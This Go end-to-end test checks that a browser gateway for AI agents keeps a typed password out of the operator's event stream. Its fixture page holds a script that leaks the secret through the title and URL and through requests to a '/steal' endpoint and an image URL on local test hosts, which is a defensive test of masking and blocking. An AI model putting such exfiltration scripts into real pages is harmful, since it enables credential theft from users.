package main

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
)

// eventsSecretManifest: a secret bound to 127.0.0.1; 127.0.0.3 is in
// scope outside its domains; a form submission waits for a human.
const eventsSecretManifest = `
[tool]
name = "e2e"
[browser]
startup_timeout_seconds = 30
[browser.scope]
allowed_domains = ["127.0.0.1", "127.0.0.3"]
allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]
[browser.commands.navigate]
[browser.commands.type_text]
[browser.commands.snapshot]
[browser.commands.submit_form]
human_approval = true
[secrets.PW]
env = "BROWSERGATE_TEST_EVENTS_PW"
domains = ["127.0.0.1"]
`

// TestEventStreamHoldsNoSecret: an operator follows /events while an
// agent types a secret into a page that shows it back in every way it
// can reach the stream: its title and URL (a decision's url), requests
// carrying it to a host outside the secret's domains and outside the
// scope (blocked events), a GET form holding it that waits for a human
// (the approval asked, and its answer). No event, as sent (JSON) or
// decoded, holds the value or any six-character piece of it, as it is,
// percent-decoded, HTML-unescaped or case-folded; and the stream did see
// the masked value, so the page did show it.
func TestEventStreamHoldsNoSecret(t *testing.T) {
	// Not parallel: t.Setenv.
	const value = `Ev&nt<S3cr"t 9%x~Q`
	t.Setenv("BROWSERGATE_TEST_EVENTS_PW", value)
	tokens := operatorFile(t)
	other, _ := serveLoggedOn(t, "127.0.0.3:0", nil)
	site, _ := serveLogged(t, map[string]string{
		"/f": `<title>f</title><form action="/done" method=get><input type=password id=pw name=pw oninput="
const v = this.value;
document.title = v;
history.replaceState(null, '', '?p=' + encodeURIComponent(v) + '&raw=' + v);
fetch('` + other + `/steal?v=' + encodeURIComponent(v)).catch(() => {});
new Image().src = 'http://127.0.0.9/x?v=' + encodeURIComponent(v);
"><button id=go>go</button></form>`,
	})
	d := startHTTP(t, eventsSecretManifest, "", "--operator-token-file", tokens, "--approval-timeout", "1s", "--log-level", "info")
	ws, _, err := websocket.DefaultDialer.Dial(strings.Replace(d.url, "http://", "ws://", 1)+"/events", http.Header{"Authorization": {"Bearer " + olga}})
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	for !strings.Contains(d.stderr.String(), "event stream opened") {
		time.Sleep(50 * time.Millisecond)
	}
	agent := d.connect(t, "alice-token")
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"e2e.navigate", map[string]any{"url": site + "/f"}},
		{"e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"}},
		{"e2e.snapshot", nil},
		{"e2e.submit_form", map[string]any{"selector": "#go"}}, // waits for a human; nobody answers
		{"e2e.navigate", map[string]any{"url": site + "/done"}},
	} {
		callText(t, agent, c.tool, c.args)
	}
	agent.Close()

	var texts []string
	types := map[string]int{}
	_ = ws.SetReadDeadline(time.Now().Add(time.Minute))
	for types["session_ended"] == 0 {
		_, msg, err := ws.ReadMessage()
		if err != nil {
			t.Fatalf("the event stream ended before the session did (%v); events: %v", err, types)
		}
		var e map[string]any
		if err := json.Unmarshal(msg, &e); err != nil {
			t.Fatalf("not a JSON event: %q", msg)
		}
		typ, _ := e["type"].(string)
		types[typ]++
		// Decisions and approvals name the call alike: the manifest's tool
		// in "tool", the command in "command" (not the MCP tool name).
		switch typ {
		case "decision", "approval_asked", "approval_answered":
			if e["tool"] != "e2e" || e["command"] == "" || e["command"] == nil {
				t.Errorf("a %s event names its call %v %v, want the manifest's tool e2e and a command: %s", typ, e["tool"], e["command"], msg)
			}
			if typ != "decision" && e["command"] != "submit_form" {
				t.Errorf("the %s event's command is %v, want submit_form: %s", typ, e["command"], msg)
			}
		}
		texts = append(texts, string(msg))
		texts = append(texts, jsonStrings(e)...)
	}
	noPieceShows(t, value, texts)
	t.Logf("events: %v", types)
	all := strings.Join(texts, "\n")
	if !strings.Contains(all, "secret PW]") || types["blocked"] == 0 || types["approval_asked"] == 0 || types["approval_answered"] == 0 {
		t.Errorf("the stream did not carry what the test is about (the masked value, blocked requests, the approval): %v\n%s", types, all)
	}
}
